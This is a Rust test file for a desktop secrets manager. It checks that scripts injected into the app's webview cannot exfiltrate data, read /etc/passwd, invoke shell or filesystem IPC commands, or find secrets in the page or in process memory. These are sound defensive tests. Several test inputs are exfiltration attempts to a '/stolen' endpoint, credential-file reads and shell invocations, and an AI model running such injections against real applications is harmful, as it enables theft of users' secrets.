//! The walls of the window: what a script could do that got into its pages in spite of everything, and what
//! another program of the user can reach. A script of the driver is such a script.

use std::{
    collections::BTreeSet,
    fs,
    os::unix::{fs::MetadataExt as _, process::CommandExt as _},
    path::Path,
    process::{Command, Stdio},
    time::Duration,
};

use keywright_tests::{Hands, Known, Misbehaviour, Window, WireServer, plain_forms, tree};
use serde_json::{Value, json};

/// `nobody`, on every Linux.
const NOBODY: u32 = 65_534;

async fn opened(known: &Known) -> Window {
    let w = Window::open(&known.cli.home()).await;
    w.fill("unlock-passphrase", Known::PASSPHRASE).await;
    w.click("unlock-submit").await;
    w.click("app-row").await;
    w.find("app-detail").await;
    w
}

/// Runs the body of an async function in the page; gives what it returns, or what it threw as text.
async fn inject(w: &Window, body: &str, arguments: Vec<Value>) -> Value {
    let script = format!(
        "const done = arguments[arguments.length - 1]; const given = [...arguments].slice(0, -1);\
         (async () => {{ {body} }})().then((v) => done(v ?? null), (e) => done('threw: ' + (e?.message ?? JSON.stringify(e))))"
    );
    w.client.execute_async(&script, arguments).await.unwrap()
}

fn refused(answer: &Value) -> bool {
    answer
        .as_str()
        .is_some_and(|text| text.starts_with("threw: "))
}

#[tokio::test(flavor = "multi_thread")]
async fn t34_window_an_injected_script_cannot_leave_the_page_or_reach_the_net() {
    let known = Known::new();
    let outside = WireServer::start(Misbehaviour::Answer {
        status: "200 OK",
        headers: vec![("Access-Control-Allow-Origin", "*".into())],
        body: "seen".into(),
    });
    let w = opened(&known).await;
    let home = w.client.current_url().await.unwrap();
    let address = json!(format!("{}/stolen", outside.issuer));

    for body in [
        "return await (await fetch(given[0])).text()",
        "return await (await fetch('file:///etc/passwd')).text()",
        "return await (await fetch('https://example.com/')).text()",
        "return await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = () => ok(x.responseText); x.onerror = () => no(new Error('blocked')); x.open('GET', given[0]); x.send() })",
        "return await new Promise((ok, no) => { const s = new WebSocket(given[0].replace('http', 'ws')); s.onopen = () => ok('open'); s.onerror = () => no(new Error('blocked')) })",
        "return await new Promise((ok, no) => { const s = new EventSource(given[0]); s.onopen = () => ok('open'); s.onerror = () => no(new Error('blocked')) })",
        "return await new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('drawn'); i.onerror = () => no(new Error('blocked')); i.src = given[0] })",
        "return await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = () => ok('ran'); s.onerror = () => no(new Error('blocked')); s.src = given[0]; document.head.append(s) })",
        "return eval('1 + 1')",
        "return new Function('return 2')()",
        "return new Worker(URL.createObjectURL(new Blob(['1'])))",
    ] {
        let answer = inject(&w, body, vec![address.clone()]).await;
        assert!(refused(&answer), "{body} gave {answer}");
    }

    let quiet = "
        navigator.sendBeacon(given[0], 'x');
        const form = document.createElement('form'); form.action = given[0]; form.method = 'post'; document.body.append(form); form.submit();
        const frame = document.createElement('iframe'); frame.src = given[0]; document.body.append(frame);
        const link = document.createElement('a'); link.href = given[0]; link.download = 'x'; document.body.append(link); link.click();
        const css = document.createElement('link'); css.rel = 'stylesheet'; css.href = given[0]; document.head.append(css);
        const inline = document.createElement('script'); inline.textContent = 'window.ranInline = true'; document.head.append(inline);
        const pre = document.createElement('link'); pre.rel = 'prefetch'; pre.href = given[0]; document.head.append(pre);
        return [window.open(given[0]) === null, window.open('https://example.com/') === null, window.ranInline ?? null]";
    let answer = inject(&w, quiet, vec![address.clone()]).await;
    assert_eq!(
        answer,
        json!([true, true, null]),
        "no window, no inline script"
    );
    for target in [
        "https://example.com/",
        "file:///etc/passwd",
        "data:text/html,x",
        "about:blank",
    ] {
        inject(&w, "location.href = given[0]", vec![json!(target)]).await;
    }
    inject(&w, "location.href = given[0]", vec![address]).await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(w.client.current_url().await.unwrap(), home);
    w.find("app-detail").await;
    assert_eq!(outside.hits(), 0, "not one request got out");
    assert_eq!(w.client.windows().await.unwrap().len(), 1);
    w.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn t34_window_an_injected_script_calls_nothing_outside_of_the_list() {
    let known = Known::new();
    let w = opened(&known).await;
    let invoke = "return await window.__TAURI_INTERNALS__.invoke(given[0], given[1])";
    let allowed = inject(&w, invoke, vec![json!("vault_status"), json!({})]).await;
    assert_eq!(
        allowed["state"], "unlocked",
        "the way itself works: {allowed}"
    );
    for (command, arguments) in [
        ("plugin:app|version", json!({})),
        (
            "plugin:event|emit",
            json!({ "event": "vault-locked", "payload": null }),
        ),
        (
            "plugin:window|set_title",
            json!({ "label": "main", "value": "orders" }),
        ),
        (
            "plugin:window|create",
            json!({ "options": { "label": "second" } }),
        ),
        (
            "plugin:webview|create_webview_window",
            json!({ "options": { "label": "second", "url": "https://example.com" } }),
        ),
        ("plugin:webview|internal_toggle_devtools", json!({})),
        ("plugin:webview|print", json!({ "label": "main" })),
        ("plugin:path|resolve_directory", json!({ "directory": 1 })),
        ("plugin:resources|close", json!({ "rid": 1 })),
        ("plugin:window-state|filename", json!({})),
        (
            "plugin:opener|open_url",
            json!({ "url": "https://example.com" }),
        ),
        ("plugin:shell|execute", json!({ "program": "sh" })),
        ("plugin:fs|read_text_file", json!({ "path": "/etc/passwd" })),
        ("secret", json!({})),
    ] {
        let answer = inject(&w, invoke, vec![json!(command), arguments]).await;
        assert!(refused(&answer), "{command} gave {answer}");
    }
    assert_eq!(w.client.title().await.unwrap(), "Keywright");
    w.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn t34_window_what_is_not_revealed_is_nowhere_in_the_page() {
    let known = Known::new();
    let w = opened(&known).await;
    w.click("app-tab-tokens").await;
    w.click("token-get").await;
    w.find("token-card").await;
    w.click("app-tab-credentials").await;
    // Everything that a script can walk to from the window: every text, attribute, field and global.
    let walk = "
        const seen = new Set(); const texts = [document.documentElement.outerHTML];
        const stack = [window, document]; let steps = 0;
        while (stack.length && steps++ < 300000) {
            const one = stack.pop();
            if (one === null || (typeof one !== 'object' && typeof one !== 'function') || seen.has(one)) continue;
            seen.add(one);
            for (const key of Reflect.ownKeys(one)) {
                let value; try { value = one[key] } catch { continue }
                if (typeof value === 'string') texts.push(value); else stack.push(value);
            }
        }
        for (const input of document.querySelectorAll('input, textarea')) texts.push(input.value);
        for (const store of [localStorage, sessionStorage]) for (let i = 0; i < store.length; i++) texts.push(store.getItem(store.key(i)));
        texts.push(document.cookie, ...performance.getEntries().map((e) => e.name));
        return texts.join('\\n')";
    let walked = inject(&w, walk, Vec::new()).await;
    let walked = walked.as_str().unwrap();
    assert!(walked.contains("orders"), "the walk sees what is shown");
    for (name, value) in &known.secrets {
        assert!(!walked.contains(value.as_str()), "{name} is in the page");
    }
    w.close().await;
}

/// Inodes of the sockets that listen, of all families of TCP.
fn listening() -> BTreeSet<String> {
    const LISTEN: &str = "0A";
    ["/proc/net/tcp", "/proc/net/tcp6"]
        .iter()
        .flat_map(|table| {
            fs::read_to_string(table)
                .unwrap_or_default()
                .lines()
                .skip(1)
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .filter_map(|line| {
            let words: Vec<&str> = line.split_ascii_whitespace().collect();
            (words.get(3) == Some(&LISTEN)).then(|| format!("socket:[{}]", words[9]))
        })
        .collect()
}

fn listens(pid: u32) -> bool {
    let open = listening();
    fs::read_dir(format!("/proc/{pid}/fd")).is_ok_and(|all| {
        all.flatten().any(|one| {
            fs::read_link(one.path()).is_ok_and(|to| open.contains(&to.display().to_string()))
        })
    })
}

#[test]
fn t33_window_offers_nothing_to_a_page_in_the_browser() {
    let known = Known::new();
    assert!(listens(known.sandbox.pid()), "a server is seen as one");
    let hands = Hands::open(&known.cli.home(), &[]);
    std::thread::sleep(Duration::from_secs(3));
    for pid in tree(hands.pid()) {
        assert!(!listens(pid), "process {pid} of the window listens");
    }
    hands.close();
}

fn of_process(pid: u32, file: &str) -> Vec<u8> {
    fs::read(Path::new("/proc").join(pid.to_string()).join(file)).unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread")]
async fn t37_window_has_no_secret_among_arguments_and_environment() {
    let known = Known::new();
    let w = opened(&known).await;
    w.click("app-tab-tokens").await;
    w.click("token-get").await;
    w.find("token-card").await;
    let mut seen = 0;
    for pid in tree(std::process::id()) {
        for file in ["cmdline", "environ"] {
            let text = of_process(pid, file);
            seen += usize::from(text.windows(13).any(|part| part == b"keywright-app"));
            for (name, value) in &known.secrets {
                for form in plain_forms(value) {
                    let there = text.windows(form.len()).any(|part| part == form);
                    assert!(!there, "{name} is in {file} of {pid}");
                }
            }
        }
    }
    assert!(seen > 0, "the window's own arguments were read");
    w.close().await;
}

#[test]
fn t38_window_and_its_processes_leave_no_core() {
    let known = Known::new();
    let hands = Hands::open(&known.cli.home(), &[]);
    std::thread::sleep(Duration::from_secs(2));
    for pid in tree(hands.pid()) {
        let limits = String::from_utf8(of_process(pid, "limits")).unwrap();
        let core = limits
            .lines()
            .find_map(|line| line.strip_prefix("Max core file size"))
            .unwrap();
        let numbers: Vec<&str> = core.split_ascii_whitespace().take(2).collect();
        assert_eq!(numbers, ["0", "0"], "process {pid}");
    }
    hands.close();
}

/// Whether a program of this user can read what the process has in memory and was started with.
fn readable_by(user: Option<u32>, pid: u32) -> bool {
    ["maps", "environ"].iter().any(|file| {
        let mut reader = Command::new("cat");
        if let Some(user) = user {
            reader.uid(user).gid(user);
        }
        reader
            .arg(format!("/proc/{pid}/{file}"))
            .current_dir("/")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap()
            .success()
    })
}

#[test]
fn t38_window_is_closed_to_its_own_user() {
    let known = Known::new();
    // Root reads everything, and what is closed belongs to root: another user shows the difference.
    let is_root = fs::metadata("/proc/self").unwrap().uid() == 0;
    let user = is_root.then_some(NOBODY);
    let folder = known.cli.folder().display().to_string();
    if let Some(user) = user {
        let given = Command::new("chown")
            .args(["-R", &user.to_string(), &folder])
            .status();
        assert!(given.unwrap().success());
    }
    let own = ["HOME", "XDG_RUNTIME_DIR", "TMPDIR"].map(|name| (name, folder.as_str()));
    let hands = Hands::open_as(&known.cli.home(), &own, user);
    for file in ["mem", "maps", "environ"] {
        let owner = fs::metadata(format!("/proc/{}/{file}", hands.pid()))
            .unwrap()
            .uid();
        assert_eq!(
            owner, 0,
            "{file} of a process that is not dumpable (proc(5))"
        );
    }
    assert!(!readable_by(user, hands.pid()));
    // The same look at a program that is not closed.
    let mut open = Command::new("sleep");
    if let Some(user) = user {
        open.uid(user).gid(user);
    }
    let mut open = open.arg("60").current_dir("/").spawn().unwrap();
    assert!(readable_by(user, open.id()));
    open.kill().unwrap();
    open.wait().unwrap();
    hands.close();
}

#[tokio::test(flavor = "multi_thread")]
async fn t34_window_a_reveal_is_alone_and_ends_by_itself() {
    const SHOWN: Duration = Duration::from_secs(22);
    let known = Known::new();
    let w = opened(&known).await;
    w.click("app-tab-credentials").await;
    let values = ["secret-client_secret", "secret-registration_access_token"];
    let [secret, token] = values.map(|id| format!("{id}-value"));
    w.click("secret-client_secret-reveal").await;
    assert_eq!(w.text(&secret).await, known.value("client secret"));
    w.click("secret-registration_access_token-reveal").await;
    w.find(&token).await;
    assert!(!w.has(&secret).await, "one at a time");
    inject(&w, "window.dispatchEvent(new Event('blur'))", Vec::new()).await;
    assert!(!w.has(&token).await, "gone with the focus");
    w.click("secret-client_secret-reveal").await;
    w.find(&secret).await;
    tokio::time::sleep(SHOWN).await;
    assert!(!w.has(&secret).await, "gone after 20 s");
    let source = w.page_source().await;
    assert!(
        !source.contains(known.value("client secret")),
        "and not in the page"
    );
    w.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn t34_window_quick_access_calls_its_own_commands_alone() {
    let known = Known::new();
    let w = opened(&known).await;
    w.press(&["Control", "Alt", "k"]).await;
    w.other_window().await;
    w.find("quick-row").await;
    let invoke = "return await window.__TAURI_INTERNALS__.invoke(given[0], given[1])";
    let found = json!({ "text": "ord" });
    let found = inject(&w, invoke, vec![json!("quick_access_find"), found]).await;
    let id = found[0]["application"]["id"].as_str().unwrap().to_owned();
    let secret = json!({ "secret": { "kind": "client_secret", "application_id": id } });
    for (command, arguments) in [
        ("secret_reveal", secret),
        ("application_delete", json!({ "id": id, "remote": false })),
        ("preferences_set", json!({ "shown": {}, "wanted": {} })),
        ("audit_page", json!({})),
        ("passphrase_generate", json!({})),
        ("quick_access_open", json!({})),
        (
            "plugin:global-shortcut|register",
            json!({ "shortcuts": ["F1"], "handler": 1 }),
        ),
        ("plugin:autostart|enable", json!({})),
        (
            "plugin:event|emit",
            json!({ "event": "vault-locked", "payload": null }),
        ),
        (
            "plugin:window|set_title",
            json!({ "label": "main", "value": "orders" }),
        ),
    ] {
        let answer = inject(&w, invoke, vec![json!(command), arguments]).await;
        assert!(refused(&answer), "{command} gave {answer}");
    }
    // Nothing of a secret is in its page, before and after a copy.
    w.fill("quick-text", "ord").await;
    w.press(&["Enter"]).await;
    w.find("quick-copied").await;
    let source = w.page_source().await;
    for (name, value) in &known.secrets {
        assert!(!source.contains(value.as_str()), "{name} is in the page");
    }
    w.other_window().await;
    // The main window cannot find and copy by the commands of the other.
    let answer = inject(
        &w,
        invoke,
        vec![json!("quick_access_find"), json!({ "text": "" })],
    )
    .await;
    assert!(refused(&answer), "{answer}");
    w.close().await;
}
